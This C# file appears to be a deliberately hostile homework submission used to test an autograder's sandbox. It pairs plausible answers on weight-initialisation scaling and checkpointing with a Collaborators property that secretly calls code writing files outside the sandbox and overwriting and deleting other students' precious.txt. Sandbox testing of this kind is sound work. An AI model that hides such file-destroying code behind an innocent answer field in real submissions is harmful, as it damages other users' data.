// HOSTILE CASE (runtime layers, language layer off): Q6.Collaborators writes /tmp/pwned, a file in its working directory and in its home, and in
// every /tmp/hw3-victim-* folder the test made (world-writable) it writes a file and deletes and overwrites precious.txt.
using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Runtime.InteropServices;

public static class Q1
{
    // Each y_i = sum_j W_ij x_j has variance d1, so ||y||^2 / d2 has mean d1.
    public static double ExpectedRmsSquaredAtInit(int d1, int d2) => d1;

    public static double InitScale(int d1, int d2) => 1.0 / Math.Sqrt(d1);

    // y'_i = sign(g_i) * sum_j |x_j|, so RMS(y') = ||x||_1.
    // E[||x||_1^2] = sum_j E[x_j^2] + sum_{j != l} E|x_j| E|x_l| = d1 + d1 (d1 - 1) * 2/pi.
    public static double ExpectedSignUpdateRmsSquared(int d1, int d2)
    {
        double n = d1;
        return n + n * (n - 1) * 2.0 / Math.PI;
    }

    // E[RMS(y')] = E||x||_1 = d1 * sqrt(2/pi).
    public static double SignUpdateScale(int d1, int d2) => Math.Sqrt(Math.PI / 2.0) / d1;

    public static string WhyOnlyFanInMatters =>
        "The update sign(g x^T) is rank one: every row is +/- sign(x)^T. So each output coordinate is " +
        "+/- sum_j |x_j|, a sum of d1 terms that all add up coherently, which is why it grows like d1. " +
        "A larger d2 just adds more copies of the same magnitude with flipped signs, and the RMS norm " +
        "divides by d2, so d2 cancels out.";
}

public static class Q5
{
    // Backward pass: for layer i = L..1 load the last checkpoint c <= i (input = 0) and run i - c forwards.
    public static int ForwardOps(int layers, int checkpointEvery)
    {
        int total = 0;
        for (int i = layers; i >= 1; i--)
        {
            int checkpoint = i / checkpointEvery * checkpointEvery;
            total += i - checkpoint;
        }
        return total;
    }

    // one load per layer
    public static int LoadMemOps(int layers, int checkpointEvery) => layers;

    // disk: L loads; remat: F fwd + L loadmem
    public static double BreakEvenLoadDiskNs(int layers, int checkpointEvery, double fwdNs, double loadMemNs)
    {
        double rematTime = ForwardOps(layers, checkpointEvery) * fwdNs + LoadMemOps(layers, checkpointEvery) * loadMemNs;
        return rematTime / layers;
    }
}

public static class Q6
{
    public static string Sources => "Lecture notes and discussion 3, the Tensor Programs V paper, and the spectral condition paper.";

    public static string Collaborators => Attack.WriteOutside();

    public static double HoursSpent => 9.5;
}

public static class Attack
{
    public static string WriteOutside()
    {
        var done = new List<string>();
        if (Works(() => File.WriteAllText("/tmp/pwned", "pwned"))) done.Add("/tmp");
        if (Works(() => File.WriteAllText("pwned", "pwned"))) done.Add("its working directory");
        if (Works(() => File.WriteAllText(Path.Combine(Environment.GetEnvironmentVariable("HOME") ?? "/", "pwned"), "pwned"))) done.Add("its home");
        var victims = new List<string>();
        Works(() => victims.AddRange(Directory.GetDirectories("/tmp", "hw3-victim-*")));
        foreach (var victim in victims)
        {
            if (Works(() => File.WriteAllText(Path.Combine(victim, "pwned"), "pwned"))) done.Add("a victim folder");
            if (Works(() => File.AppendAllText(Path.Combine(victim, "precious.txt"), "pwned"))) done.Add("a victim's file");
            if (Works(() => File.Delete(Path.Combine(victim, "precious.txt")))) done.Add("a victim's file deleted");
        }
        return done.Count == 0 ? "attack failed: nothing written" : "wrote in " + string.Join(", ", done.Distinct());
    }

    private static bool Works(Action action)
    {
        try { action(); return true; } catch { return false; }
    }
}
